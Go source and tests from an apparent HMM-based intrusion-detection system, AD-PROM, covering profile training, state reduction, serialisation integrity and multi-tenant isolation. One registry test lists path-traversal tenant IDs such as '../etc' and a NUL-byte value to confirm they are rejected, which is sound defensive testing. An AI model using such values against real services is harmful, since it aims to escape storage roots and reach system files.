			v[dim+i] = pm.At(k+2, i) // transition-to (row)
		}
		out[k] = v
	}
	return out
}

// reduceModel clusters the CTM-initialised model's states: PCA over the
// CTVs, K-means with K = ratio·N, then a flow-weighted lumping of π, A and B
// ("the corresponding emission probability vector has the averaged vector;
// the transition probabilities vector is averaged as well", §IV-C4).
func reduceModel(model *hmm.Model, pm *ctm.Matrix, opts Options) *hmm.Model {
	n := model.N
	k := int(opts.ClusterRatio * float64(n))
	if k < 2 {
		k = 2
	}

	vecs := CTVs(pm)
	fitted, err := pca.Fit(vecs, opts.PCADim)
	var points [][]float64
	if err == nil {
		points = fitted.Transform(vecs)
	} else {
		points = vecs // degenerate input: cluster the raw CTVs
	}

	cl, err := kmeans.Cluster(points, k, opts.Seed, 0)
	if err != nil {
		return model // unclusterable: keep the full model
	}

	// Flow weight of each site: its pCTM throughput; a floor keeps dead
	// states from producing zero rows.
	w := make([]float64, n)
	for i := 0; i < n; i++ {
		w[i] = pm.ColSum(i + 2)
		if w[i] <= 0 {
			w[i] = 1e-9
		}
	}

	reduced := hmm.New(cl.K, model.M)
	clusterW := make([]float64, cl.K)
	for i := 0; i < cl.K; i++ {
		reduced.Pi[i] = 0
		for j := range reduced.A[i] {
			reduced.A[i][j] = 0
		}
		for j := range reduced.B[i] {
			reduced.B[i][j] = 0
		}
	}
	for i, c := range cl.Assign {
		clusterW[c] += w[i]
		reduced.Pi[c] += model.Pi[i]
	}
	for i, ci := range cl.Assign {
		for j, cj := range cl.Assign {
			reduced.A[ci][cj] += w[i] * model.A[i][j]
		}
		for s := 0; s < model.M; s++ {
			reduced.B[ci][s] += w[i] * model.B[i][s]
		}
	}
	for c := 0; c < cl.K; c++ {
		if clusterW[c] <= 0 {
			continue
		}
		inv := 1 / clusterW[c]
		for j := 0; j < cl.K; j++ {
			reduced.A[c][j] *= inv
		}
		for s := 0; s < model.M; s++ {
			reduced.B[c][s] *= inv
		}
	}
	reduced.Smooth(1e-6)
	return reduced
}
