// Package profile implements AD-PROM's Profile Constructor (paper §IV-B3,
// §IV-C3–C4): it initialises a hidden Markov model from the program's
// aggregated call-transition matrix, optionally reduces the state space by
// clustering similar call sites (PCA over call-transition vectors followed by
// K-means), trains the model on collected traces with a converge sub-dataset
// (CSDS) stopping rule, and selects the detection threshold.
//
// The resulting Profile is the unit the Detection Engine consumes and the
// artefact AD-PROM persists per monitored application.
package profile

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"

	"adprom/internal/collector"
	"adprom/internal/ctm"
	"adprom/internal/hmm"
	"adprom/internal/ir"
)

// UnknownLabel is the reserved observation symbol for calls never seen in
// the static analysis or the training traces. Foreign calls injected by an
// attacker (the paper's A-S2 sequences) map to it and carry only the
// smoothing floor's probability.
const UnknownLabel = "<unk>"

// ErrNoTraces is returned when Build receives no usable training data.
var ErrNoTraces = errors.New("profile: no training traces")

// Options tune profile construction.
type Options struct {
	// WindowLen is the n of the n-length call sequences (default 15, the
	// paper's choice from [32]).
	WindowLen int
	// MaxStates triggers state reduction when the pCTM has more sites
	// (default 900, §IV-B3).
	MaxStates int
	// ClusterRatio sets K = ratio × states for the reduction (default 0.3,
	// the paper's bash experiment).
	ClusterRatio float64
	// PCADim is the reduced CTV dimensionality before clustering
	// (default 16).
	PCADim int
	// Seed drives clustering and any randomised initialisation.
	Seed int64
	// Train configures Baum–Welch; Holdout is filled from the CSDS split.
	Train hmm.TrainOptions
	// HoldoutFrac is the CSDS fraction kept aside to stop training
	// (default 0.2 — the paper's 1/5).
	HoldoutFrac float64
	// ThresholdSlack is subtracted from the lowest normal per-symbol score
	// to place the default threshold (default 0.05 nats — tight enough to
	// catch frequency anomalies, whose per-symbol cost is small; the paper
	// likewise accepts a handful of false positives, Table VII).
	ThresholdSlack float64
	// MaxTrainWindows caps the number of training windows (0 = no cap); the
	// cap subsamples deterministically, which keeps the large SIR-style
	// corpora tractable.
	MaxTrainWindows int
	// SkipTraining initialises (and reduces) the model without running
	// Baum–Welch; used by ablations and the pre-training timing experiment.
	SkipTraining bool
	// SkipThreshold skips threshold selection (Threshold stays 0); used by
	// experiments that only need the trained model (threshold sweeps, the
	// training-time comparison).
	SkipThreshold bool
}

func (o Options) withDefaults() Options {
	if o.WindowLen <= 0 {
		o.WindowLen = 15
	}
	if o.MaxStates <= 0 {
		o.MaxStates = 900
	}
	if o.ClusterRatio <= 0 || o.ClusterRatio > 1 {
		o.ClusterRatio = 0.3
	}
	if o.PCADim <= 0 {
		o.PCADim = 16
	}
	if o.HoldoutFrac <= 0 || o.HoldoutFrac >= 1 {
		o.HoldoutFrac = 0.2
	}
	if o.ThresholdSlack <= 0 {
		o.ThresholdSlack = 0.05
	}
	return o
}

// Profile is a trained application behaviour profile.
type Profile struct {
	// Program names the profiled application.
	Program string
	// Model is the trained HMM.
	Model *hmm.Model
	// Symbols maps observation ids to labels; the last entry is
	// UnknownLabel.
	Symbols []string
	// WindowLen is the n used for call sequences.
	WindowLen int
	// Threshold is the per-symbol log-probability below which a window is
	// anomalous.
	Threshold float64
	// CallerIndex maps each label to the sorted set of functions observed
	// (statically or during training) to issue it; the Detection Engine's
	// out-of-context flag checks it.
	CallerIndex map[string][]string
	// LeakLabels marks the _Q observation symbols (output statements of TD).
	LeakLabels map[string]bool
	// StatesBefore/StatesAfter record the reduction (equal when none ran).
	StatesBefore int
	StatesAfter  int
	// Reduced reports whether PCA+K-means ran.
	Reduced bool
	// TrainResult is the Baum–Welch trace (nil when SkipTraining).
	TrainResult *hmm.TrainResult

	symIndex map[string]int

	scorerMu sync.Mutex
	scorers  map[hmm.ScorerMode]*hmm.Scorer
}

// Build constructs and trains a profile from the program's pCTM and the
// training traces.
func Build(prog *ir.Program, pm *ctm.Matrix, traces []collector.Trace, opts Options) (*Profile, error) {
	return BuildContext(context.Background(), prog, pm, traces, opts)
}

// BuildContext is Build with cancellation: the context aborts the Baum–Welch
// loop between iterations and the threshold scan between windows, surfacing
// ctx.Err() as the returned error.
func BuildContext(ctx context.Context, prog *ir.Program, pm *ctm.Matrix, traces []collector.Trace, opts Options) (*Profile, error) {
	opts = opts.withDefaults()

	p := initFromCTM(prog, pm, opts)

	// Collect the training windows.
	var windows [][]string
	for _, tr := range traces {
		windows = append(windows, tr.LabelWindows(opts.WindowLen)...)
	}
	if len(windows) == 0 {
		return nil, ErrNoTraces
	}
	// Training may shrink the corpus for tractability, but the threshold
	// should span as much of the normal behaviour as possible: a window
	// dropped from training still has to score above the threshold, or
	// profile construction manufactures false positives. Deduplication is
	// the main reduction — sliding windows repeat heavily across test cases
	// — and preserves the exact minimum score; MaxTrainWindows subsamples
	// only what remains (training set), with the threshold drawing on a 3x
	// larger sample (residual false positives on gigantic corpora are
	// expected — the paper's Table VII reports a handful too).
	// The CSDS holdout (paper §V-B: 1/5 kept aside to stop training) is
	// drawn from the raw window stream BEFORE deduplication: rare paths often
	// have a single distinct window, and holding that out would leave the
	// only evidence of a legitimate path untrained — Baum–Welch would then
	// drive its transitions to the smoothing floor and the path would flag
	// forever. Sampling the duplicated stream keeps the holdout
	// distributionally faithful while training still sees every pattern.
	rawWindows := windows
	windows = dedupWindows(windows)
	threshWindows := windows
	if opts.MaxTrainWindows > 0 && len(threshWindows) > 3*opts.MaxTrainWindows {
		threshWindows = subsample(threshWindows, 3*opts.MaxTrainWindows)
	}
	if opts.MaxTrainWindows > 0 && len(windows) > opts.MaxTrainWindows {
		windows = subsample(windows, opts.MaxTrainWindows)
	}

	// Fold dynamic-only labels into the caller index.
	for _, tr := range traces {
		for _, c := range tr {
			p.addCaller(c.Label, c.Caller)
			if p.LeakLabels == nil {
				p.LeakLabels = map[string]bool{}
			}
			if len(c.Origins) > 0 {
				p.LeakLabels[c.Label] = true
			}
		}
	}
	p.sortCallerIndex()

	if opts.SkipTraining {
		p.Model.Smooth(1e-6)
		return p, nil
	}

	// CSDS split: training uses every distinct window; the holdout samples
	// the raw stream at the configured fraction (capped - it only steers
	// early stopping).
	stride := int(1 / opts.HoldoutFrac)
	train := make([][]int, 0, len(windows))
	for _, w := range windows {
		train = append(train, p.Encode(w))
	}
	var hold [][]int
	for i := stride - 1; i < len(rawWindows) && len(hold) < 200; i += stride {
		hold = append(hold, p.Encode(rawWindows[i]))
	}

	tOpts := opts.Train
	if tOpts.PriorWeight == 0 {
		// MAP training against the initialisation keeps statically feasible
		// but unexercised paths alive; see hmm.TrainOptions.PriorWeight.
		tOpts.PriorWeight = 2
	}
	tOpts.Holdout = hold
	res, err := p.Model.TrainContext(ctx, train, tOpts)
	if err != nil {
		return nil, fmt.Errorf("profile: training %s: %w", prog.Name, err)
	}
	p.TrainResult = res

	// Threshold: the lowest per-symbol score of any normal window, minus
	// slack. Experiments that sweep thresholds override this.
	if !opts.SkipThreshold {
		minScore := 0.0
		first := true
		for i, w := range threshWindows {
			if i%512 == 0 {
				if err := ctx.Err(); err != nil {
					return nil, fmt.Errorf("profile: threshold scan for %s cancelled: %w", prog.Name, err)
				}
			}
			s := p.Score(w)
			if first || s < minScore {
				minScore, first = s, false
			}
		}
		p.Threshold = minScore - opts.ThresholdSlack
	}
	return p, nil
}

// Scorer returns the shared exact-mode scoring view of the trained model.
// It is built once, on first use, and safe for any number of concurrent
// readers; per-stream state lives in the StreamScorers derived from it.
func (p *Profile) Scorer() *hmm.Scorer {
	return p.ScorerFor(hmm.ScorerExact)
}

// ScorerFor returns the shared scoring view built for the given kernel mode,
// building and caching it on first use. Views are immutable, so one per mode
// serves any number of concurrent sessions.
func (p *Profile) ScorerFor(mode hmm.ScorerMode) *hmm.Scorer {
	p.scorerMu.Lock()
	defer p.scorerMu.Unlock()
	if s, ok := p.scorers[mode]; ok {
		return s
	}
	if p.scorers == nil {
		p.scorers = make(map[hmm.ScorerMode]*hmm.Scorer, 1)
	}
	s := p.Model.NewScorerMode(mode)
	p.scorers[mode] = s
	return s
}

// NewStreamScorer returns an exact-mode incremental sliding-window scorer
// over the profile's model with the given window length (<= 0 uses the
// profile's WindowLen). Each detection session owns one.
func (p *Profile) NewStreamScorer(window int) *hmm.StreamScorer {
	return p.NewStreamScorerMode(window, hmm.ScorerExact)
}

// NewStreamScorerMode is NewStreamScorer with an explicit kernel mode.
func (p *Profile) NewStreamScorerMode(window int, mode hmm.ScorerMode) *hmm.StreamScorer {
	if window <= 0 {
		window = p.WindowLen
	}
	return p.ScorerFor(mode).NewStream(window)
}

// initFromCTM builds the un-trained profile: alphabet, caller index, and the
// HMM initialised (and possibly reduced) from the pCTM.
func initFromCTM(prog *ir.Program, pm *ctm.Matrix, opts Options) *Profile {
	p := &Profile{
		Program:     prog.Name,
		WindowLen:   opts.WindowLen,
		CallerIndex: map[string][]string{},
		LeakLabels:  map[string]bool{},
	}

	// Alphabet: every site label plus the reserved unknown.
	labelSet := map[string]bool{}
	for _, s := range pm.Sites() {
		labelSet[s.Label] = true
		p.addCaller(s.Label, s.Site.Func)
		if s.Label != siteName(s.Label) {
			p.LeakLabels[s.Label] = true
		}
	}
	p.Symbols = make([]string, 0, len(labelSet)+1)
	for l := range labelSet {
		p.Symbols = append(p.Symbols, l)
	}
	sort.Strings(p.Symbols)
	p.Symbols = append(p.Symbols, UnknownLabel)
	p.buildSymIndex()

	model := modelFromCTM(pm, p)
	p.StatesBefore = model.N
	p.StatesAfter = model.N

	if model.N > opts.MaxStates {
		reduced := reduceModel(model, pm, opts)
		p.Reduced = true
		p.StatesAfter = reduced.N
		model = reduced
	}
	p.Model = model
	return p
}

// siteName strips a _Q suffix: printf_Q6 → printf.
func siteName(label string) string {
	for i := len(label) - 1; i > 0; i-- {
		if label[i] == '_' && i+1 < len(label) && label[i+1] == 'Q' {
			return label[:i]
		}
	}
	return label
}

// modelFromCTM maps pCTM sites to hidden states: π from the ε row, A from
// row-normalised site transitions with the ε′ mass folded into a restart
// (windows span the program's steady state, so an exit is followed by the
// next run's entry distribution), and B as the site's label delta.
func modelFromCTM(pm *ctm.Matrix, p *Profile) *hmm.Model {
	n := pm.NumSites()
	if n == 0 {
		// Degenerate program with no calls: a single unknown-emitting state.
		m := hmm.New(1, len(p.Symbols))
		return m
	}
	model := hmm.New(n, len(p.Symbols))

	// π from ε row.
	var piSum float64
	for k := 0; k < n; k++ {
		model.Pi[k] = pm.At(ctm.Entry, k+2)
		piSum += model.Pi[k]
	}
	if piSum > 0 {
		for k := range model.Pi {
			model.Pi[k] /= piSum
		}
	}
	pi := append([]float64(nil), model.Pi...)

	for i := 0; i < n; i++ {
		row := make([]float64, n)
		var total float64
		for j := 0; j < n; j++ {
			row[j] = pm.At(i+2, j+2)
			total += row[j]
		}
		exit := pm.At(i+2, ctm.Exit)
		total += exit
		if total <= 0 {
			// Unreachable residue: uniform row (smoothing would fix it too).
			for j := range row {
				model.A[i][j] = 1 / float64(n)
			}
		} else {
			for j := 0; j < n; j++ {
				model.A[i][j] = (row[j] + exit*pi[j]) / total
			}
		}
		// Emission: delta on the site's label.
		for k := range model.B[i] {
			model.B[i][k] = 0
		}
		model.B[i][p.SymbolOf(pm.SiteAt(i+2).Label)] = 1
	}
	model.Smooth(1e-6)
	return model
}

func (p *Profile) addCaller(label, caller string) {
	for _, c := range p.CallerIndex[label] {
		if c == caller {
			return
		}
	}
	p.CallerIndex[label] = append(p.CallerIndex[label], caller)
}

func (p *Profile) sortCallerIndex() {
	for _, callers := range p.CallerIndex {
		sort.Strings(callers)
	}
}

// KnownLabel reports whether label was seen statically or in training.
func (p *Profile) KnownLabel(label string) bool {
	_, ok := p.symIndex[label]
	return ok
}

// KnownCaller reports whether caller is an expected issuer of label. Unknown
// labels have no expectations (the probability model handles them).
func (p *Profile) KnownCaller(label, caller string) bool {
	callers, ok := p.CallerIndex[label]
	if !ok {
		return false
	}
	i := sort.SearchStrings(callers, caller)
	return i < len(callers) && callers[i] == caller
}

// SymbolOf maps a label to its observation id, falling back to the unknown
// symbol.
func (p *Profile) SymbolOf(label string) int {
	if i, ok := p.symIndex[label]; ok {
		return i
	}
	return len(p.Symbols) - 1
}

// Encode maps labels to observation ids.
func (p *Profile) Encode(labels []string) []int {
	out := make([]int, len(labels))
	for i, l := range labels {
		out[i] = p.SymbolOf(l)
	}
	return out
}

// Score returns the per-symbol log-probability of a label window under the
// model; per-symbol normalisation keeps scores comparable when a trace is
// shorter than the window length. Empty windows score 0.
func (p *Profile) Score(labels []string) float64 {
	if len(labels) == 0 {
		return 0
	}
	ll, err := p.Scorer().LogProb(p.Encode(labels))
	if err != nil {
		return 0
	}
	return ll / float64(len(labels))
}

func (p *Profile) buildSymIndex() {
	p.symIndex = make(map[string]int, len(p.Symbols))
	for i, s := range p.Symbols {
		if s == UnknownLabel {
			continue // unknown resolves via fallback, not lookup
		}
		p.symIndex[s] = i
	}
}

// dedupWindows keeps the first occurrence of each distinct label window.
func dedupWindows(windows [][]string) [][]string {
	seen := make(map[string]bool, len(windows))
	out := windows[:0:0]
	var key strings.Builder
	for _, w := range windows {
		key.Reset()
		for _, l := range w {
			key.WriteString(l)
			key.WriteByte(0x1f)
		}
		k := key.String()
		if seen[k] {
			continue
		}
		seen[k] = true
		out = append(out, w)
	}
	return out
}

func subsample(windows [][]string, max int) [][]string {
	step := len(windows) / max
	if step < 1 {
		step = 1
	}
	out := make([][]string, 0, max)
	for i := 0; i < len(windows) && len(out) < max; i += step {
		out = append(out, windows[i])
	}
	return out
}
