package profile

import (
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"errors"
	"fmt"
	"testing"

	"adprom/internal/hmm"
)

// testProfile builds a small but structurally complete profile without
// running the training pipeline.
func testProfile(t *testing.T) *Profile {
	t.Helper()
	p := &Profile{
		Program:      "tiny",
		Symbols:      []string{"a", "b", "c", UnknownLabel},
		WindowLen:    4,
		Threshold:    -2.5,
		CallerIndex:  map[string][]string{"a": {"main"}, "b": {"main", "report"}},
		LeakLabels:   map[string]bool{"b": true},
		StatesBefore: 3,
		StatesAfter:  3,
	}
	p.Model = hmm.New(3, len(p.Symbols))
	p.buildSymIndex()
	return p
}

func TestSaveWritesVersionedHeader(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if len(b) < headerLen {
		t.Fatalf("saved %d bytes, shorter than the header", len(b))
	}
	if !bytes.Equal(b[:6], magic[:]) {
		t.Fatalf("magic = %q", b[:6])
	}
	if v := binary.BigEndian.Uint16(b[6:8]); v != FormatVersion {
		t.Fatalf("version = %d, want %d", v, FormatVersion)
	}
	if l := binary.BigEndian.Uint64(b[8:16]); int(l) != len(b)-headerLen {
		t.Fatalf("declared payload %d, actual %d", l, len(b)-headerLen)
	}
}

func TestLoadReadsLegacyV0Stream(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(p); err != nil { // the old Save
		t.Fatal(err)
	}
	q, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load(v0): %v", err)
	}
	if q.Program != p.Program || q.WindowLen != p.WindowLen || len(q.Symbols) != len(p.Symbols) {
		t.Fatalf("v0 round trip diverged: %+v", q)
	}
	if q.SymbolOf(p.Symbols[0]) != 0 {
		t.Fatal("symbol index not rebuilt on v0 load")
	}
}

func TestLoadRejectsTruncation(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	for _, cut := range []int{3, headerLen - 1, headerLen, headerLen + 10, len(full) - 1} {
		if _, err := Load(bytes.NewReader(full[:cut])); err == nil {
			t.Errorf("Load accepted a %d-byte truncation of %d bytes", cut, len(full))
		}
	}
	if _, err := Load(bytes.NewReader(full[:len(full)-1])); !errors.Is(err, ErrCorrupt) {
		t.Errorf("truncated payload: %v, want ErrCorrupt", err)
	}
}

func TestLoadRejectsBitFlip(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	b[headerLen+len(b)/2] ^= 0x40
	if _, err := Load(bytes.NewReader(b)); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("bit-flipped payload: %v, want ErrCorrupt", err)
	}
}

func TestLoadRejectsFutureVersion(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	binary.BigEndian.PutUint16(b[6:8], FormatVersion+1)
	if _, err := Load(bytes.NewReader(b)); !errors.Is(err, ErrIncompatible) {
		t.Fatalf("future version: %v, want ErrIncompatible", err)
	}
}

func TestLoadRejectsAbsurdDeclaredLength(t *testing.T) {
	var b [headerLen]byte
	copy(b[:6], magic[:])
	binary.BigEndian.PutUint16(b[6:8], FormatVersion)
	binary.BigEndian.PutUint64(b[8:16], 1<<40)
	if _, err := Load(bytes.NewReader(b[:])); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("absurd length: %v, want ErrCorrupt", err)
	}
}

func TestLoadRejectsShapelessDecode(t *testing.T) {
	// A Profile gob that decodes cleanly but has no model must fail typed,
	// not surface later as a nil dereference in the detection engine.
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(&Profile{Program: "hollow"}); err != nil {
		t.Fatal(err)
	}
	if _, err := Load(&buf); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("model-less profile: %v, want ErrCorrupt", err)
	}
}

func TestInspectChecksumMatchesSavedHeader(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	headerSum := fmt.Sprintf("%08x", binary.BigEndian.Uint32(raw[16:20]))
	info, _, err := Inspect(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	if info.Checksum != headerSum {
		t.Fatalf("Inspect checksum = %s, header records %s", info.Checksum, headerSum)
	}
	if info.FormatVersion != FormatVersion {
		t.Fatalf("Inspect version = %d", info.FormatVersion)
	}
	if info.Program != p.Program || info.WindowLen != p.WindowLen {
		t.Fatalf("Inspect summary diverged: %+v", info)
	}
}

func TestInspectLegacyStream(t *testing.T) {
	p := testProfile(t)
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(p); err != nil {
		t.Fatal(err)
	}
	info, _, err := Inspect(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if info.FormatVersion != 0 {
		t.Fatalf("legacy stream reported version %d", info.FormatVersion)
	}
}
