package tenant

// Fleet chaos suite (run under -race; `make race` does): a deliberately
// overloaded "noisy" tenant must not perturb its neighbours. Isolation here
// is structural — each tenant's shard owns its queues and shed controller —
// so the proof obligations are behavioural: healthy tenants' alert
// histories stay bit-identical to their single-tenant baselines, their
// observe latency stays inside budget, and the fleet shuts down without
// leaking goroutines.

import (
	"errors"
	"fmt"
	"math"
	"reflect"
	stdruntime "runtime"
	"sync"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/core"
	"adprom/internal/detect"
	"adprom/internal/faultinject"
	"adprom/internal/profile"
	"adprom/internal/runtime"
	"adprom/internal/shed"
)

// checkGoroutines waits for the goroutine count to return to the baseline,
// dumping stacks if shard workers or dispatcher goroutines leaked.
func checkGoroutines(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if now := stdruntime.NumGoroutine(); now <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			n := stdruntime.Stack(buf, true)
			t.Fatalf("goroutine leak: %d before, %d after\n%s",
				before, stdruntime.NumGoroutine(), buf[:n])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func alertsEquivalent(got, want []detect.Alert) error {
	if len(got) != len(want) {
		return fmt.Errorf("%d alerts, want %d", len(got), len(want))
	}
	for i := range got {
		g, w := got[i], want[i]
		if math.Abs(g.Score-w.Score) > 1e-9 || math.Abs(g.Threshold-w.Threshold) > 1e-9 {
			return fmt.Errorf("alert %d: score %v/%v, threshold %v/%v", i, g.Score, w.Score, g.Threshold, w.Threshold)
		}
		g.Score, g.Threshold, w.Score, w.Threshold = 0, 0, 0, 0
		if !reflect.DeepEqual(g, w) {
			return fmt.Errorf("alert %d: %+v != %+v", i, g, w)
		}
	}
	return nil
}

// countRejections classifies drop/shed errors, extracting exact counts from
// BatchShedError for batch ops and charging the whole op otherwise.
func countRejections(err error, n int) (int, bool) {
	var bse *runtime.BatchShedError
	if errors.As(err, &bse) {
		return bse.Shed, true
	}
	if errors.Is(err, runtime.ErrDropped) { // ErrShed matches too
		return n, true
	}
	return 0, false
}

// TestChaosNoisyTenantCannotStarveNeighbours floods one tenant far past its
// deliberately tiny capacity — stalled worker, shallow queue, risk-aware
// shedding — while two healthy tenants serve normal and attacked streams.
// The noisy tenant must shed (its own degradation); the healthy tenants
// must stay bit-identical to their sequential Monitor baselines with
// observe p99 inside budget; and closing the fleet must leak nothing.
func TestChaosNoisyTenantCannotStarveNeighbours(t *testing.T) {
	p, traces := trainAppH(t)
	before := stdruntime.NumGoroutine()

	r, err := NewRouter(Config{
		Static: map[string]*profile.Profile{"noisy": p, "healthy-a": p, "healthy-b": p},
		RuntimeOptions: []runtime.Option{
			runtime.WithWorkers(2),
			runtime.WithQueueDepth(64),
		},
		PerTenant: map[string][]runtime.Option{
			// The noisy tenant's shard is engineered to overload: one
			// stalled worker behind a shallow queue, shedding by risk.
			"noisy": {
				runtime.WithWorkers(1),
				runtime.WithQueueDepth(8),
				runtime.WithShedConfig(shed.Config{Seed: 1}),
				runtime.WithWorkerHook(faultinject.WorkerLatency(200 * time.Microsecond)),
			},
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	// Healthy corpus: per tenant, one normal and one attacked stream, with
	// sequential Monitor baselines computed up front.
	type stream struct {
		tenant, session string
		trace           collector.Trace
		want            []detect.Alert
		got             []detect.Alert
		err             error
	}
	var streams []*stream
	for _, tenant := range []string{"healthy-a", "healthy-b"} {
		for i, tr := range []collector.Trace{traces[0], attacked(traces[1%len(traces)])} {
			streams = append(streams, &stream{
				tenant:  tenant,
				session: fmt.Sprintf("s%d", i),
				trace:   tr,
				want:    core.NewMonitor(p, nil).ObserveTrace(tr),
			})
		}
	}

	var wg sync.WaitGroup
	// Noisy tenant: four sessions flooding the stalled shard full-tilt for
	// the whole duration of the healthy replays.
	noisyDone := make(chan faultinject.OverloadReport, 4)
	noisyErr := make(chan error, 4)
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s, err := r.Session("noisy", fmt.Sprintf("flood-%d", i))
			if err != nil {
				noisyErr <- err
				return
			}
			gen := &faultinject.OverloadGen{Traces: traces, Passes: 6, Batch: 16}
			rep, err := gen.Run(s, countRejections)
			if err != nil {
				noisyErr <- err
				return
			}
			noisyDone <- rep
		}(i)
	}
	// Healthy tenants replay concurrently with the flood, several passes so
	// they overlap the noisy tenant's entire run.
	for _, st := range streams {
		wg.Add(1)
		go func(st *stream) {
			defer wg.Done()
			s, err := r.Session(st.tenant, st.session)
			if err != nil {
				st.err = err
				return
			}
			for pass := 0; pass < 4; pass++ {
				for _, c := range st.trace {
					if err := s.Observe(c); err != nil {
						st.err = err
						return
					}
				}
				if pass < 3 {
					if _, err := s.Flush(); err != nil {
						st.err = err
						return
					}
				}
			}
			st.got, st.err = s.Close()
		}(st)
	}
	wg.Wait()
	close(noisyDone)
	close(noisyErr)
	for err := range noisyErr {
		t.Fatalf("noisy tenant hard failure: %v", err)
	}

	// The noisy tenant degraded itself: risk-aware admission shed calls.
	var totalShed int
	for rep := range noisyDone {
		totalShed += rep.Shed
	}
	noisyStats, ok := r.TenantStats("noisy")
	if !ok {
		t.Fatal("noisy tenant not resident")
	}
	if totalShed == 0 || noisyStats.Runtime.Shed == 0 {
		t.Fatalf("noisy tenant was never shed (reports=%d stats=%d): overload did not engage",
			totalShed, noisyStats.Runtime.Shed)
	}

	// Healthy tenants: zero shed, bit-identical alert histories. Each
	// session ran 4 passes, so the baseline repeats 4 times.
	for _, st := range streams {
		if st.err != nil {
			t.Fatalf("%s/%s: %v", st.tenant, st.session, st.err)
		}
		// The session's sequence numbers keep counting across passes while
		// each baseline Monitor restarts at zero, so pass i's expected
		// alerts carry a deterministic i*len(trace) offset.
		var want []detect.Alert
		for i := 0; i < 4; i++ {
			for _, a := range st.want {
				a.Seq += i * len(st.trace)
				want = append(want, a)
			}
		}
		if err := alertsEquivalent(st.got, want); err != nil {
			t.Errorf("%s/%s diverged from single-tenant baseline: %v", st.tenant, st.session, err)
		}
	}
	for _, tenant := range []string{"healthy-a", "healthy-b"} {
		st, ok := r.TenantStats(tenant)
		if !ok {
			t.Fatalf("%s not resident", tenant)
		}
		if st.Runtime.Shed != 0 || st.Runtime.Dropped != 0 {
			t.Errorf("%s shed=%d dropped=%d: the noisy tenant's overload leaked", tenant, st.Runtime.Shed, st.Runtime.Dropped)
		}
		// Latency budget: healthy shards run unstalled workers; their p99
		// observe latency must stay far from the noisy shard's stall-bound
		// floor. The absolute budget is generous for CI noise.
		if p99 := st.Runtime.P99Latency; p99 > 100*time.Millisecond {
			t.Errorf("%s observe p99 = %v, want < 100ms", tenant, p99)
		}
	}

	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	checkGoroutines(t, before)
}
