package tenant

import (
	"errors"
	"reflect"
	"testing"

	"adprom/internal/profile"
)

func TestRegistryPublishAndLoad(t *testing.T) {
	p, _ := trainAppH(t)
	reg, err := OpenRegistry(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}

	if _, err := reg.LoadTenant("apph"); err == nil {
		t.Fatal("empty lineage loaded without error")
	}
	e1, err := reg.Publish("apph", p, "test")
	if err != nil {
		t.Fatal(err)
	}
	if e1.Generation != 1 {
		t.Fatalf("first generation = %d, want 1", e1.Generation)
	}
	e2, err := reg.Publish("apph", p, "test")
	if err != nil {
		t.Fatal(err)
	}
	if e2.Generation != 2 {
		t.Fatalf("second generation = %d, want 2", e2.Generation)
	}
	loaded, err := reg.LoadTenant("apph")
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Program != p.Program || loaded.Threshold != p.Threshold {
		t.Fatalf("loaded profile mismatch: %s/%v", loaded.Program, loaded.Threshold)
	}

	if _, err := reg.Publish("other", p, "test"); err != nil {
		t.Fatal(err)
	}
	tenants, err := reg.Tenants()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(tenants, []string{"apph", "other"}) {
		t.Fatalf("Tenants() = %v", tenants)
	}
}

// TestRegistryRejectsHostileTenantIDs holds the path-traversal guard:
// tenant ids arrive over the network and must never escape the store root.
func TestRegistryRejectsHostileTenantIDs(t *testing.T) {
	p, _ := trainAppH(t)
	reg, err := OpenRegistry(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"", ".", "..", "../etc", "a/b", `a\b`, "x\x00y"} {
		if _, err := reg.Publish(id, p, "test"); err == nil {
			t.Errorf("hostile id %q accepted by Publish", id)
		}
		if _, err := reg.LoadTenant(id); err == nil {
			t.Errorf("hostile id %q accepted by LoadTenant", id)
		}
		if _, err := reg.TenantDir(id); err == nil {
			t.Errorf("hostile id %q accepted by TenantDir", id)
		}
	}
}

// TestRouterLoadsFromRegistry wires the registry in as the router's Loader:
// published tenants route, unpublished ones are unknown.
func TestRouterLoadsFromRegistry(t *testing.T) {
	p, traces := trainAppH(t)
	reg, err := OpenRegistry(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := reg.Publish("apph", p, "test"); err != nil {
		t.Fatal(err)
	}
	r, err := NewRouter(Config{Loader: reg})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
